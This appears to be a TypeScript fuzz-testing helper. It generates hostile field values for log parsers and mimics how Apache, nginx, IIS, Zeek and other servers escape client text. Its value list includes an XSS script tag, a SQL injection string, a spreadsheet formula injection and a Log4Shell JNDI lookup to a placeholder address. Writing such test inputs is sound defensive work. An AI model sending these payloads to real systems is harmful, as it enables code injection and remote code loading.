/** Texts that are structure in some log: what parsers cut at, and what they take for the fields behind it. */
const PIECES = [
  '"', '\\', '\\"', '\\\\', '""', '" "', "'", '[', ']', '] "', ' [', '{', '}', '|', '||', ',', ';', ':', '=', '&', '%', '%%', '%22', '%00', '%0a', '%zz', '+', '-', ' - ', ' - - ', '#', '#Fields: a b', '$', '`', '<', '>', '/', '?', '..', '\t', '\\t', '\\x22', '\\x09', '\\n',
  '\u0000', '\u0001', '\u001b[31m', '\u007f', '\u00a0', '\u2028', '\ufffd', '\ufeff', 'é', '日本', '😀', '\ud800',
  ' [02/Mar/2020:00:00:00 +0000] ', '[02/Mar/2020:00:00:00 +0000] "GET / HTTP/1.1', ' 200 5 ', ' 500 1 "-" "-"', '192.0.2.99', '::ffff:192.0.2.99', '192.0.2.99, 192.0.2.98', '2020-01-01T00:00:00Z', '1577836800',
  'null', 'NaN', '-1', '1e400', '__proto__', 'constructor', '{"a":1}', '[1,2]', '{"message":"x"}', 'CEF:0|a|b|1|2|3|4|', '<script>alert(1)</script>', "' OR 1=1 --", '=1+cmd|calc', '${jndi:ldap://192.0.2.99/a}', '(empty)', '"-"', 'HTTP/1.1', 'GET / HTTP/1.1',
] as const;

const LONG = 70_000;

/** Returns 200 values that a client can put into a field that it controls: quotes, brackets, escapes, separators, controls, long texts. */
export const hostileValues = (): string[] => {
  const single = PIECES.flatMap((piece) => [piece, `a${piece}b`]);
  const mixed = Array.from({ length: 400 }, (_, at) => `${PIECES[(at * 7) % PIECES.length]}x${PIECES[(at * 13 + 5) % PIECES.length]}`);
  const long = ['x', '"', '\\', '[', ' '].map((piece) => piece.repeat(LONG));
  return [...long, ...new Set([...single, ...mixed])].slice(0, 200);
};

const toHex = (byte: number): string => byte.toString(16).padStart(2, '0');
const mapBytes = (text: string, isSafe: (byte: number) => boolean, escape: (byte: number) => string): string =>
  [...Buffer.from(text, 'utf8')].map((byte) => (isSafe(byte) ? String.fromCharCode(byte) : escape(byte))).join('');
const isPrintable = (byte: number): boolean => byte >= 32 && byte < 127;

/** How servers write texts of clients. */
export const ESCAPES = {
  /** Apache HTTP Server: backslashes before quotes and backslashes, `\xhh` for what is not printable. */
  apache: (text: string) => mapBytes(text, (byte) => isPrintable(byte) && byte !== 34 && byte !== 92, (byte) => (byte === 34 ? '\\"' : byte === 92 ? '\\\\' : byte === 9 ? '\\t' : byte === 10 ? '\\n' : `\\x${toHex(byte)}`)),
  /** nginx: `\xHH` for quotes, backslashes and what is not ASCII. */
  nginx: (text: string) => mapBytes(text, (byte) => isPrintable(byte) && byte !== 34 && byte !== 92, (byte) => `\\x${toHex(byte).toUpperCase()}`),
  /** Percent encoding of what is not allowed in URLs, as CloudFront and Squid write. */
  percent: (text: string) => mapBytes(text, (byte) => isPrintable(byte) && !' "%<>\\^`{|}'.includes(String.fromCharCode(byte)), (byte) => `%${toHex(byte).toUpperCase()}`),
  /** IIS: a space is `+`. */
  plus: (text: string) => mapBytes(text, (byte) => isPrintable(byte) && byte !== 32, (byte) => (byte === 32 ? '+' : `%${toHex(byte)}`)),
  /** Zeek: `\xhh` for the separator, backslashes and what is not ASCII. */
  zeek: (text: string) => mapBytes(text, (byte) => isPrintable(byte) && byte !== 92, (byte) => `\\x${toHex(byte)}`),
  /** The content of a JSON string. */
  json: (text: string) => JSON.stringify(text).slice(1, -1),
  /** Nothing but line breaks is escaped. */
  none: (text: string) => text.replace(/[\r\n]/g, ' '),
} as const;
